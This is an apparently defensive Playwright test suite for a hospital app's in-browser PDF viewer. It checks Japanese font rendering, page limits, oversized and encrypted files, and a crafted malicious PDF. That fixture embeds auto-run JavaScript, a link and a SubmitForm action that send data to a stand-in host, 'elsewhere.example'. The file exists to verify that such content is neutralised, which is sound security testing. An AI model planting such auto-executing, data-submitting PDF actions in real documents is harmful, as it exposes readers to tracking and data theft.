// SPDX-License-Identifier: Apache-2.0
/* A hospital's paper on a phone, drawn by us: Japanese without its font, and papers that mean harm. */
import type { Page } from '@playwright/test';
import { expect, isAccessible, login, noSidewaysScroll, openCalendar, openSummary, picture, test } from './test.ts';

/** A file of these objects, numbered from 1; the first is the catalogue. */
function pdf(objects: string[], trailer = ''): Buffer {
  let text = '%PDF-1.5\n';
  const starts = objects.map((object, index) => {
    const start = text.length;
    text += `${index + 1} 0 obj\n${object}\nendobj\n`;
    return start;
  });
  const rows = starts.map((start) => `${String(start).padStart(10, '0')} 00000 n \n`).join('');
  const end = `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${rows}`;
  text += `${end}trailer\n<</Size ${objects.length + 1} /Root 1 0 R ${trailer}>>\nstartxref\n${text.length}\n%%EOF\n`;
  return Buffer.from(text, 'latin1');
}
const stream = (text: string) => `<</Length ${text.length}>>\nstream\n${text}\nendstream`;
const CATALOGUE = '<</Type /Catalog /Pages 2 0 R>>';
const PAGE = '<</Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources <</Font <</F1 5 0 R>>>>>>';

/* 退院時要約 in the code of Windows (90ms-RKSJ) and 血圧 in that of Unicode (UniJIS-UTF16). */
const WORDS = 'BT /F1 40 Tf 60 700 Td <91de89408e9e977696f1> Tj ET BT /F2 40 Tf 60 600 Td <88405727> Tj ET';
const japanese = () => {
  const font = (encoding: string, below: number) =>
    `<</Type /Font /Subtype /Type0 /BaseFont /MS-Mincho /Encoding /${encoding} /DescendantFonts [${below} 0 R]>>`;
  return pdf([
    CATALOGUE, '<</Type /Pages /Kids [3 0 R] /Count 1>>',
    PAGE.replace('/F1 5 0 R', '/F1 5 0 R /F2 6 0 R'), stream(WORDS), font('90ms-RKSJ-H', 7), font('UniJIS-UTF16-H', 7),
    '<</Type /Font /Subtype /CIDFontType2 /BaseFont /MS-Mincho /CIDSystemInfo <</Registry (Adobe) /Ordering (Japan1) /Supplement 2>> /FontDescriptor 8 0 R>>',
    '<</Type /FontDescriptor /FontName /MS-Mincho /Flags 4 /FontBBox [0 -137 1000 859] /ItalicAngle 0 /Ascent 859 /Descent -137 /CapHeight 709 /StemV 80>>',
  ]);
};
const HELVETICA = '<</Type /Font /Subtype /Type1 /BaseFont /Helvetica>>';
/** A script on opening, one on closing, a link, a button that sends, a file beside it. */
const harmful = () => pdf([
  '<</Type /Catalog /Pages 2 0 R /OpenAction 6 0 R /AA <</WC 6 0 R>> /Names <</JavaScript <</Names [(a) 6 0 R]>>>> /AcroForm <</Fields [8 0 R]>>>>',
  '<</Type /Pages /Kids [3 0 R] /Count 1>>',
  PAGE.replace('/Contents', '/Annots [7 0 R 8 0 R] /AA <</O 6 0 R>> /Contents'),
  stream('BT /F1 40 Tf 60 700 Td (harmless words) Tj ET'), HELVETICA,
  '<</S /JavaScript /JS (app.alert\\("x"\\); this.submitForm\\("https://elsewhere.example/"\\);)>>',
  '<</Type /Annot /Subtype /Link /Rect [0 0 595 842] /A <</S /URI /URI (https://elsewhere.example/)>>>>',
  '<</Type /Annot /Subtype /Widget /FT /Btn /T (b) /Rect [60 600 200 650] /A <</S /SubmitForm /F (https://elsewhere.example/)>>>>',
]);
const manyPages = (count: number) => {
  const kids = Array.from({ length: count }, (_, index) => `${index + 5} 0 R`).join(' ');
  const page = PAGE.replace('/Contents 4 0 R', '/Contents 3 0 R').replace('/F1 5 0 R', '/F1 4 0 R');
  return pdf([
    CATALOGUE, `<</Type /Pages /Kids [${kids}] /Count ${count}>>`, stream('BT /F1 40 Tf 60 700 Td (page) Tj ET'), HELVETICA,
    ...Array.from({ length: count }, () => page),
  ]);
};
/** Says a million pages and has one, as large as a field. */
const lying = () => pdf([
  CATALOGUE, '<</Type /Pages /Kids [3 0 R] /Count 1000000>>', PAGE.replace('[0 0 595 842]', '[0 0 14400000 14400000]'),
  stream('BT /F1 40 Tf 60 700 Td (large) Tj ET'), HELVETICA,
]);
const locked = () => pdf(
  [CATALOGUE, '<</Type /Pages /Kids [3 0 R] /Count 1>>', PAGE, stream('x'), HELVETICA,
    `<</Filter /Standard /V 1 /R 2 /P -44 /O <${'ab'.repeat(32)}> /U <${'cd'.repeat(32)}>>>`],
  `/Encrypt 6 0 R /ID [<${'00'.repeat(16)}> <${'00'.repeat(16)}>]`,
);

test.beforeEach(async ({ page, world, hand }) => {
  await login(page, world);
  await openCalendar(page, hand, world.linked.number);
  await openSummary(page);
});

/** Opens the paper of the summary as if this were what the hospital has. */
async function openPaper(page: Page, bytes: Buffer | undefined): Promise<void> {
  await page.unroute('**/original?part=*');
  await page.route('**/original?part=*', (route) =>
    bytes ? route.fulfill({ status: 200, contentType: 'application/octet-stream', body: bytes }) : route.continue());
  await page.locator('.doc-file', { hasText: '別紙' }).getByRole('button', { name: /開く/ }).click();
  await expect(page.locator('.doc-viewer')).toBeVisible();
}
const close = async (page: Page) => {
  await page.keyboard.press('Escape');
  await expect(page.locator('.doc-viewer')).toHaveCount(0);
};
/** How much of a page is not white, once it is drawn. */
const ink = (page: Page, at = 0) => page.locator('.pdf-page canvas').nth(at).evaluate((node) => {
  const canvas = node as HTMLCanvasElement;
  const pixels = canvas.getContext('2d')?.getImageData(0, 0, canvas.width, canvas.height).data ?? [];
  let dark = 0;
  for (let index = 0; index < pixels.length; index += 4) if ((pixels[index] ?? 255) < 128 && (pixels[index + 3] ?? 0) > 0) dark += 1;
  return dark;
});

test('a paper of the hospital is read page by page, larger and smaller', async ({ page, addresses }) => {
  await openPaper(page, undefined);
  await expect(page.locator('.doc-viewer iframe')).toHaveCount(0);
  await expect(page.getByRole('group', { name: /^1 \/ \d+ページ$/ })).toBeVisible();
  await expect.poll(() => ink(page)).toBeGreaterThan(100);
  await expect(page.locator('.pdf-page .sr').first()).not.toBeEmpty();
  await isAccessible(page);
  await noSidewaysScroll(page);
  await picture(page, 'pdf-paper');
  const box = () => page.locator('.pdf-page').first().evaluate((node) => node.clientWidth);
  const before = await box();
  await page.getByRole('button', { name: '大きく' }).click();
  expect(await box()).toBeGreaterThan(before * 1.4);
  await expect.poll(() => ink(page)).toBeGreaterThan(100);
  await page.getByRole('button', { name: '小さく' }).click();
  expect(await box()).toBe(before);
  await close(page);
  const origin = new URL(page.url()).origin;
  expect(addresses.filter((address) => !address.startsWith(origin) && !address.startsWith('blob:'))).toEqual([]);
  expect(addresses.some((address) => address.includes('/assets/pdfjs-'))).toBe(true);
});

test('Japanese whose font is not in the file is read and heard', async ({ page, addresses }) => {
  await openPaper(page, japanese());
  await expect(page.locator('.pdf-page .sr')).toContainText('退院時要約');
  await expect(page.locator('.pdf-page .sr')).toContainText('血圧');
  expect(await ink(page)).toBeGreaterThan(200);
  for (const table of ['90ms-RKSJ-H', 'UniJIS-UTF16-H', 'Adobe-Japan1-UCS2']) {
    expect(addresses.filter((address) => address.endsWith(`/cmaps/${table}.bcmap`)).length, table).toBeGreaterThan(0);
  }
  await picture(page, 'pdf-japanese');
});

test('scripts, links and forms of a paper do nothing', async ({ page, addresses }) => {
  let said = 0;
  page.on('dialog', (dialog) => {
    said += 1;
    void dialog.dismiss();
  });
  const before = page.url();
  await openPaper(page, harmful());
  await expect(page.locator('.pdf-page .sr')).toContainText('harmless words');
  expect(await page.locator('.doc-viewer').locator('a, form, input, iframe, object, embed, script').count()).toBe(0);
  await page.locator('.pdf-page').click();
  await close(page);
  expect(said).toBe(0);
  expect(page.url()).toBe(before);
  expect(addresses.filter((address) => address.includes('elsewhere'))).toEqual([]);
});

test('more pages than a phone can hold are counted, and few are drawn', async ({ page }) => {
  await openPaper(page, manyPages(400));
  await expect(page.locator('.pdf-page')).toHaveCount(300);
  await expect(page.locator('.pdf-scroll')).toContainText('全400ページのうち300ページまで');
  await expect(page.locator('.pdf-page .sr').first()).toContainText('page');
  const drawn = () => page.locator('.pdf-page canvas').evaluateAll((all) => all.filter((one) => (one as HTMLCanvasElement).width > 0).length);
  await expect.poll(drawn).toBeGreaterThan(0);
  expect(await page.locator('.pdf-page canvas').evaluateAll((all) => all.filter((one) => (one as HTMLCanvasElement).width > 0).length)).toBeLessThan(12);
  await picture(page, 'pdf-many');
});

test('a paper that lies about its pages and their size is held to what can be shown', async ({ page }) => {
  await openPaper(page, lying());
  await expect(page.locator('.doc-viewer').getByText(/large|壊れている|を表示できません|ページまで/).first()).toBeAttached();
  const sizes = await page.locator('.pdf-page canvas').evaluateAll((all) => all.map((one) => (one as HTMLCanvasElement).width * (one as HTMLCanvasElement).height));
  for (const size of sizes) expect(size).toBeLessThanOrEqual(12_100_000);
  await close(page);
});

test('broken and protected papers are a sentence that says what to do', async ({ page }) => {
  await openPaper(page, Buffer.from('%PDF-1.7\n%not much more than that\n'));
  await expect(page.locator('.doc-viewer').getByRole('alert')).toContainText('このPDFは壊れているため表示できません');
  await expect(page.locator('.doc-viewer').getByRole('alert')).toContainText('「保存」');
  await isAccessible(page);
  await picture(page, 'pdf-broken');
  await close(page);
  await openPaper(page, locked());
  await expect(page.locator('.doc-viewer').getByRole('alert')).toContainText('パスワードで保護されている');
  await close(page);
  // and afterwards a whole one is shown as ever
  await openPaper(page, undefined);
  await expect.poll(() => ink(page)).toBeGreaterThan(100);
});
